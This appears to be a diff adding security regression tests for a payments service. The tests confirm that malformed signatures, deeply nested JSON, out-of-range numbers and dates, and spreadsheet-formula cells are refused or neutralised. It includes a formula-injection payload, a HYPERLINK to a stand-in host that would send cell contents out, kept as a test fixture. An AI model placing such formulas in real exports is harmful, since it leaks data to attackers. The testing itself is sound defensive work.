@@ -1,0 +1,389 @@
+"""Hostile input at the service's edges (issue 18): each is a clear 4xx, never a 500."""
+import http.client
+import json
+import time
+import urllib.parse
+
+import pytest
+from sqlalchemy import func, select
+
+from market_pay.extensions import db
+from market_pay.payments.models import BankTransaction, InboxEntry
+from tests.conftest import PG_URL
+from tests.factories import account_data, auth_header, make_user, make_vendor
+from tests.payments.helpers import SIMBANK_SECRET, set_partners, simbank_transfer
+from tests.servers import cli, fresh_database_url, gunicorn, service_env
+
+@pytest.fixture
+def stall(app):
+    set_partners()
+    return make_vendor(accounts=[account_data("970436", "0011001234567", "NGUYEN THI HOA")])
+
+
+def count(model, *where):
+    return db.session.scalar(select(func.count()).select_from(model).where(*where))
+
+
+# --- 1. signatures with non-ASCII characters -------------------------------------------------
+
+NON_ASCII_SIGNED = {
+    "simbank": lambda now: {"X-Signature": f"t={now},v1=é"},
+    "simbank-many": lambda now: {"X-Signature": f"t={now},v1=ab,v1=\u00ff\u00fe"},
+    "sepay": lambda now: {"X-SePay-Timestamp": str(now), "X-SePay-Signature": "sha256=é"},
+    "sepay-apikey": lambda now: {"Authorization": "Apikey clé"},
+}
+REJECTED_FORMAT = {"simbank": lambda b: b["status"] == "rejected", "sepay": lambda b: b["success"] is False,
+                   "payos": lambda b: b["success"] is False}
+
+
+@pytest.mark.parametrize("case", sorted(NON_ASCII_SIGNED))
+def test_a_non_ascii_signature_header_is_401_and_kept_as_rejected(client, stall, case):
+    partner = case.split("-")[0]
+    body = json.dumps(simbank_transfer(stall.accounts[0])).encode()
+    response = client.post(f"/api/v1/callbacks/{partner}", data=body, content_type="application/json",
+                           headers=NON_ASCII_SIGNED[case](int(time.time())))
+    assert response.status_code == 401 and REJECTED_FORMAT[partner](response.get_json())
+    assert count(BankTransaction) == 0
+    entry = db.session.scalar(select(InboxEntry))
+    assert entry.outcome == "rejected" and entry.reason
+
+
+@pytest.mark.parametrize("signature", ["é", "\ud800", "ab\u00e9cd" * 8])
+def test_a_payos_body_with_a_non_ascii_signature_is_401_and_kept_as_rejected(client, stall, signature):
+    data = {"orderCode": 5, "amount": 45_000, "description": "thanh toan", "accountNumber": "0011001234567",
+            "reference": "FT-PAYOS-1", "transactionDateTime": "2026-11-22 11:00:00", "paymentLinkId": "l-1",
+            "code": "00", "desc": "success"}
+    body = json.dumps({"code": "00", "desc": "success", "success": True, "data": data, "signature": signature})
+    response = client.post("/api/v1/callbacks/payos", data=body, content_type="application/json")
+    assert response.status_code == 401 and response.get_json()["success"] is False
+    assert count(BankTransaction) == 0
+    assert db.session.scalar(select(InboxEntry.outcome)) == "rejected"
+
+
+@pytest.fixture(params=["sqlite"] + (["postgresql"] if PG_URL else []))
+def served(request, tmp_path):
+    """A real gunicorn with simbank and SePay credentials."""
+    env = service_env(fresh_database_url(request.param, tmp_path, PG_URL))
+    cli(env, "db", "upgrade")
+    cli(env, "partners", "set", "simbank", "--secret", SIMBANK_SECRET)
+    cli(env, "partners", "set", "sepay", "--secret", "sepay-secret", "--api-key", "sepay-key")
+    with gunicorn(env, workers=1, threads=1) as base:
+        yield base
+
+
+def raw_post(base: str, path: str, header_lines: list[bytes], body: bytes) -> tuple[int, bytes]:
+    """POST with header bytes exactly as given (http.client would refuse to send non-ASCII)."""
+    parsed = urllib.parse.urlsplit(base)
+    connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=30)
+    connection.putrequest("POST", path)
+    for line in header_lines:
+        name, _, value = line.partition(b": ")
+        connection.putheader(name.decode(), value)  # bytes values go on the wire untouched
+    connection.putheader("Content-Type", "application/json")
+    connection.putheader("Content-Length", str(len(body)))
+    connection.endheaders(body)
+    response = connection.getresponse()
+    try:
+        return response.status, response.read()
+    finally:
+        connection.close()
+
+
+@pytest.mark.slow
+def test_non_ascii_signature_bytes_over_real_http_are_401_in_the_partners_format(served):
+    now = str(int(time.time())).encode()
+    body = json.dumps({"transaction_id": "SIM1", "amount": 1000}).encode()
+    for path, lines in [
+        ("/api/v1/callbacks/simbank", [b"X-Signature: t=" + now + b",v1=\xc3\xa9"]),  # é in UTF-8
+        ("/api/v1/callbacks/simbank", [b"X-Signature: t=" + now + b",v1=\xe9"]),  # é in latin-1
+        ("/api/v1/callbacks/sepay", [b"X-SePay-Timestamp: " + now, b"X-SePay-Signature: sha256=\xe9\xff"]),
+        ("/api/v1/callbacks/sepay", [b"Authorization: Apikey \xc3\xa9"]),
+    ]:
+        status, answer = raw_post(served, path, lines, body)
+        assert status == 401, (path, lines, status, answer)
+        decoded = json.loads(answer)
+        assert decoded.get("status") == "rejected" or decoded.get("success") is False
+
+
+# --- 2. deeply nested JSON -----------------------------------------------------------------
+
+DEEP = [b"[" * 100_000, b"[" * 900 + b"]" * 900, b'{"a":' * 40 + b"1" + b"}" * 40,
+        b'{"code": "X", "name": ' + b"[" * 50 + b"]" * 50 + b"}"]
+
+
+def assert_error_shape(response, code):
+    body = response.get_json()
+    assert response.status_code == code, (response.status_code, body)
+    assert set(body) == {"code", "status", "message", "errors"} and body["code"] == code
+    return body
+
+
+@pytest.mark.parametrize("raw", DEEP, ids=["open-100k", "balanced-900", "objects-40", "inside-a-field"])
+@pytest.mark.parametrize("path,role", [("/api/v1/auth/token", None), ("/api/v1/markets", "admin"),
+                                       ("/api/v1/vendors", "admin"), ("/api/v1/qr/decode", "admin"),
+                                       ("/api/v1/users", "admin")])
+def test_deeply_nested_json_is_400_with_the_error_shape(client, app, raw, path, role):
+    headers = auth_header(make_user(role)) if role else {}
+    response = client.post(path, data=raw, content_type="application/json", headers=headers)
+    assert_error_shape(response, 400)
+
+
+def test_json_nested_as_deep_as_the_bound_is_still_read(client, app):
+    from market_pay.common.jsontext import MAX_DEPTH, loads
+    assert loads(b"[" * MAX_DEPTH + b"]" * MAX_DEPTH) is not None
+    assert loads(b'"' + b"[" * 100 + b'"') == "[" * 100  # brackets inside a string are not nesting
+
+
+@pytest.mark.parametrize("raw", DEEP[:3], ids=["open-100k", "balanced-900", "objects-40"])
+def test_deeply_nested_callbacks_are_refused_in_the_partners_format_and_kept(client, stall, raw):
+    for partner in ("simbank", "sepay", "payos"):
+        response = client.post(f"/api/v1/callbacks/{partner}", data=raw, content_type="application/json")
+        assert response.status_code == 401 and REJECTED_FORMAT[partner](response.get_json()), partner
+    assert count(InboxEntry, InboxEntry.outcome == "rejected") == 3
+    # Signed but unreadable: authentic, so kept and filed as malformed (never a 500).
+    from tests.payments.helpers import post_simbank
+    signed = post_simbank(client, None, raw=raw)
+    assert signed.status_code == 200
+    assert count(InboxEntry, InboxEntry.outcome == "malformed") == 1 and count(BankTransaction) == 0
+
+
+def test_a_payos_body_with_deeply_nested_data_is_refused_not_a_server_error(client, stall):
+    nested = json.loads(b"[" * 200 + b"]" * 200)
+    body = json.dumps({"data": {"amount": 1, "extra": nested}, "signature": "00"})
+    response = client.post("/api/v1/callbacks/payos", data=body, content_type="application/json")
+    assert response.status_code == 401 and response.get_json()["success"] is False
+
+
+# --- 7. spreadsheet formulas ---------------------------------------------------------------
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Chợ A")'
+
+
+@pytest.mark.parametrize("value,expected", [
+    (EVIL_NAME, "'" + EVIL_NAME), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Chợ Một", "Chợ Một"), ("Chợ = A", "Chợ = A"), ("", ""),
+    (-1500, -1500), (0, 0), (2.5, 2.5), (None, None), ("-1500", "-1500"), ("-12,5", "-12,5")])
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_nothing_else_changes(value, expected):
+    from market_pay.common.spreadsheet import csv_cell
+    assert csv_cell(value) == expected
+
+
+def test_xlsx_text_cells_are_text_never_formulas():
+    from openpyxl import Workbook
+    from market_pay.common.spreadsheet import set_xlsx_cell
+    sheet = Workbook().active
+    evil, number, error_code = (set_xlsx_cell(sheet, 1, 1, EVIL_NAME), set_xlsx_cell(sheet, 1, 2, -1500),
+                                set_xlsx_cell(sheet, 1, 3, "#N/A"))
+    assert (evil.data_type, evil.value, evil.quotePrefix) == ("s", EVIL_NAME, True)
+    assert (number.data_type, number.value) == ("n", -1500)
+    assert (error_code.data_type, error_code.value) == ("s", "#N/A")
+    assert set_xlsx_cell(sheet, 1, 4, "bad\x01char").value == "bad\ufffdchar"
+
+
+@pytest.fixture
+def evil_market_report(app):
+    """Three active stalls in a market renamed to a formula (listed by name in the report)."""
+    from tests.factories import make_market, make_region
+    from tests.reports.helpers import at, credit
+    province = make_region("P", "province", name="-Tỉnh Thử")
+    commune = make_region("C1", "commune", province, name="@Xã Một")
+    market = make_market("M1", commune, EVIL_NAME)
+    for _ in range(3):
+        stall = make_vendor(market)
+        stall.created_at = stall.accounts[0].created_at = at("2026-08-01 08:00")
+        db.session.commit()
+        credit(stall, 10_000, "2026-11-05 10:00")
+    return make_user("admin")
+
+
+def get_adoption(client, user, **query):
+    return client.get("/api/v1/reports/adoption", headers=auth_header(user),
+                      query_string={"from": "2026-11-01", "to": "2026-11-30", "region": "P", **query})
+
+
+def test_a_market_named_as_a_formula_is_plain_text_in_the_adoption_csv(client, evil_market_report):
+    import csv
+    import io
+    response = get_adoption(client, evil_market_report, format="csv")
+    assert response.status_code == 200
+    lines = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    header, market = lines[0], dict(zip(lines[0], lines[1]))
+    assert market["Chợ"] == "'" + EVIL_NAME and market["Xã / phường"] == "'@Xã Một"
+    assert market["Giá trị không tiền mặt (₫)"] == "30000"  # numbers untouched
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line), lines
+
+
+def test_a_market_named_as_a_formula_is_a_text_cell_in_the_adoption_xlsx(client, evil_market_report):
+    import io
+    from openpyxl import load_workbook
+    response = get_adoption(client, evil_market_report, format="xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    named = [cell for cell in cells if cell.value == EVIL_NAME]
+    assert named and all(cell.data_type == "s" and cell.quotePrefix for cell in named)
+    commune = [cell for cell in cells if cell.value == "@Xã Một"]
+    assert commune and commune[0].quotePrefix
+    assert 30_000 in [cell.value for cell in cells if cell.data_type == "n"]
+
+
+def test_statement_ids_shaped_as_formulas_are_plain_text_in_breaks_csv(client, stall, tmp_path):
+    import csv
+    import io
+    from tests.reconciliation.statements import line, write_statement
+    statement = write_statement(tmp_path / "sao-ke.csv", [("970436", "0011001234567", 0, [
+        line("=1+2", "@SUM(A1)", "2026-11-21T09:30:00+07:00", 1_250_000, description="=HYPERLINK(\"x\")"),
+        line("-5+5", "+FT2", "2026-11-21T09:40:00+07:00", 1_000)], None)])
+    admin = make_user("admin")
+    with open(statement, "rb") as handle:
+        run = client.post("/api/v1/statements", headers=auth_header(admin), content_type="multipart/form-data",
+                          data={"file": (handle, "sao-ke.csv"), "partner": "simbank"})
+    assert run.status_code == 201, run.get_json()
+    response = client.get(f"/api/v1/reconciliation-runs/{run.get_json()['id']}/breaks.csv", headers=auth_header(admin))
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'-5+5" in cells and "'+FT2" in cells
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), rows
+
+
+# --- 8. numbers and dates beyond what the database holds --------------------------------------
+
+def encoded_cursor(text: str) -> str:
+    import base64
+    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
+
+
+@pytest.mark.parametrize("after", ["999999999999", "2147483648", "١٢", "1_000"])
+def test_a_feed_cursor_beyond_the_database_integers_is_422(client, stall, after):
+    admin = auth_header(make_user("admin"))
+    response = client.get(f"/api/v1/vendors/{stall.id}/payments", headers=admin, query_string={"after": after})
+    assert "after" in assert_error_shape(response, 422)["errors"]
+
+
+def test_the_largest_feed_cursor_is_still_read(client, stall):
+    admin = auth_header(make_user("admin"))
+    response = client.get(f"/api/v1/vendors/{stall.id}/payments?after=2147483647", headers=admin)
+    assert response.status_code == 200 and response.get_json()["items"] == []
+
+
+@pytest.mark.parametrize("path", ["/api/v1/vendors", "/api/v1/markets", "/api/v1/users", "/api/v1/regions",
+                                  "/api/v1/suspense", "/api/v1/reconciliation-runs"])
+@pytest.mark.parametrize("cursor", ["id:99999999999999", "id:-99999999999999", "id:١٢", "id:" + "9" * 5000])
+def test_a_list_cursor_beyond_the_database_integers_is_422(client, app, path, cursor):
+    admin = auth_header(make_user("admin"))
+    response = client.get(path, headers=admin, query_string={"cursor": encoded_cursor(cursor)[:64]})
+    assert "cursor" in assert_error_shape(response, 422)["errors"]
+
+
+@pytest.mark.parametrize("account_id", [10**12, 2**31, -(2**31) - 1, 0])
+def test_a_payment_request_for_an_account_id_out_of_range_is_422(client, stall, account_id):
+    admin = auth_header(make_user("admin"))
+    response = client.post(f"/api/v1/vendors/{stall.id}/payment-requests", headers=admin,
+                           json={"amount": 10_000, "account_id": account_id})
+    assert "account_id" in assert_error_shape(response, 422)["errors"]
+
+
+@pytest.mark.parametrize("vendor_id", [10**12, 2**31, -1])
+def test_a_suspense_assignment_to_a_vendor_id_out_of_range_is_422(client, stall, vendor_id):
+    from tests.payments.helpers import post_simbank
+    post_simbank(client, simbank_transfer(stall.accounts[0], 30_000, account_number="9999"))
+    from market_pay.payments.models import SuspenseItem
+    item = db.session.scalar(select(SuspenseItem))
+    response = client.post(f"/api/v1/suspense/{item.id}/resolve", headers=auth_header(make_user("admin")),
+                           json={"action": "assign_stall", "vendor_id": vendor_id, "note": "x"})
+    assert "vendor_id" in assert_error_shape(response, 422)["errors"]
+
+
+@pytest.mark.parametrize("first,last", [("0001-01-01", "0001-01-31"), ("9999-12-01", "9999-12-31"),
+                                        ("1899-12-01", "1899-12-31"), ("2300-01-01", "2300-01-02")])
+def test_a_report_period_far_outside_the_service_s_years_is_422(client, app, first, last):
+    from tests.factories import make_region
+    make_region("P", "province")
+    response = client.get("/api/v1/reports/adoption", headers=auth_header(make_user("admin")),
+                          query_string={"region": "P", "from": first, "to": last})
+    assert assert_error_shape(response, 422)["errors"]
+
+
+@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
+def test_other_date_query_parameters_in_year_1_or_9999_are_422(client, app, day):
+    admin = auth_header(make_user("admin"))
+    response = client.get("/api/v1/reconciliation-runs", headers=admin, query_string={"statement_date": day})
+    assert "statement_date" in assert_error_shape(response, 422)["errors"]
+
+
+@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+07:00", "9999-12-31T23:59:59-07:00",
+                                    "0001-01-01T00:00:00+00:00"])
+def test_a_cash_sale_at_a_time_no_one_sells_is_422(client, stall, moment):
+    response = client.post(f"/api/v1/vendors/{stall.id}/cash-sales", headers=auth_header(make_user("admin")),
+                           json={"amount": 5_000, "occurred_at": moment})
+    assert "occurred_at" in assert_error_shape(response, 422)["errors"]
+
+
+@pytest.mark.parametrize("field,day", [("valid_from", "0001-01-01"), ("valid_to", "9999-12-31")])
+def test_a_region_valid_in_year_1_or_9999_is_422(client, app, field, day):
+    response = client.post("/api/v1/regions", headers=auth_header(make_user("admin")),
+                           json={"code": "X1", "name": "Xã", "kind": "commune", field: day})
+    assert field in assert_error_shape(response, 422)["errors"]
+
+
+VENDOR_HEADER = "stall_code,display_name,phone,floor_amount,bin,account_number,account_name\n"
+GOOD_VENDOR = "A-01,Rau bà Hoa,0912345678,1000,970405,1111111111,NGUYEN THI HOA\n"
+
+
+@pytest.mark.parametrize("text,where", [
+    (VENDOR_HEADER + GOOD_VENDOR + "B-01," + "x" * 131_073 + ",0912345678,,970405,2222,X\n", "row 3"),
+    (VENDOR_HEADER + "B-01,\"" + "x" * 140_000 + "\",0912345678,,970405,2222,X\n", "row 2"),
+    ("stall_code," + "x" * 131_073 + "\n" + GOOD_VENDOR, "header"),
+])
+def test_a_vendor_csv_field_over_the_csv_limit_is_422_naming_the_row(client, app, text, where):
+    from tests.factories import make_market
+    market = make_market()
+    response = client.post(f"/api/v1/markets/{market.code}/vendors/import", data=text.encode(),
+                           content_type="text/csv", headers=auth_header(make_user("admin")))
+    assert list(assert_error_shape(response, 422)["errors"]) == [where]
+
+
+def test_a_vendor_csv_field_over_the_csv_limit_is_a_clear_cli_error(runner, app, tmp_path):
+    from tests.factories import make_market
+    market = make_market()
+    path = tmp_path / "sap.csv"
+    path.write_text(VENDOR_HEADER + "B-01," + "x" * 131_073 + ",0912345678,,970405,2222,X\n", encoding="utf-8")
+    result = runner.invoke(args=["vendors", "import", str(path), "--market", market.code])
+    assert result.exit_code == 1 and "row 2" in result.output and result.exception.__class__ is SystemExit
+
+
+@pytest.mark.parametrize("note", ["Hà Giang before 0001-01-01", "Hà Giang before 2025-13-45"])
+def test_a_region_file_with_an_impossible_before_date_is_a_clear_cli_error(runner, app, tmp_path, note):
+    path = tmp_path / "vung.csv"
+    path.write_text(f"code,name,kind,parent_code,note\nP9,Tỉnh,province,,{note}\n", encoding="utf-8")
+    result = runner.invoke(args=["regions", "import", str(path)])
+    assert result.exit_code == 1 and "row 2" in result.output and "note" in result.output, result.output
+
+
+@pytest.mark.parametrize("booked_at", ["9999-12-31T23:59:59-07:00", "0001-01-01T00:00:00+07:00",
+                                       "0001-01-01T00:00:00", "9999-12-31T23:59:59"])
+def test_a_statement_line_booked_in_year_1_or_9999_is_a_row_error(client, stall, tmp_path, booked_at):
+    from tests.reconciliation.statements import line, write_statement
+    statement = write_statement(tmp_path / "sao-ke.csv", [("970436", "0011001234567", 0, [
+        line("SIM-9", "FT9", booked_at, 1_000)], None)])
+    with open(statement, "rb") as handle:
+        response = client.post("/api/v1/statements", headers=auth_header(make_user("admin")),
+                               content_type="multipart/form-data",
+                               data={"file": (handle, "sao-ke.csv"), "partner": "simbank", "date": "2026-11-21"})
+    body = assert_error_shape(response, 422)
+    assert "booked_at" in json.dumps(body["errors"]) and "row 3" in json.dumps(body["errors"])
+
+
+@pytest.mark.parametrize("after", ["999999999999", "2147483648", "١٢"])
+def test_a_stall_event_stream_cursor_beyond_the_database_integers_is_422(client, app, after):
+    from market_pay.stalls.events import FeedHub
+    from tests.factories import VENDOR_PIN, scope_of
+    from tests.stalls.test_board_pages import sign_in
+    app.extensions["market_pay_feed_hub"] = FeedHub(app, poll_seconds=3600)
+    vendor = make_vendor()
+    sign_in(client, make_user("vendor", scope_of(vendor)), VENDOR_PIN)
+    response = client.get("/stall/events", query_string={"after": after}, headers={"Accept": "application/json"})
+    assert response.status_code == 422
+    response = client.get("/stall/events", headers={"Last-Event-ID": after, "Accept": "application/json"})
+    assert response.status_code == 422
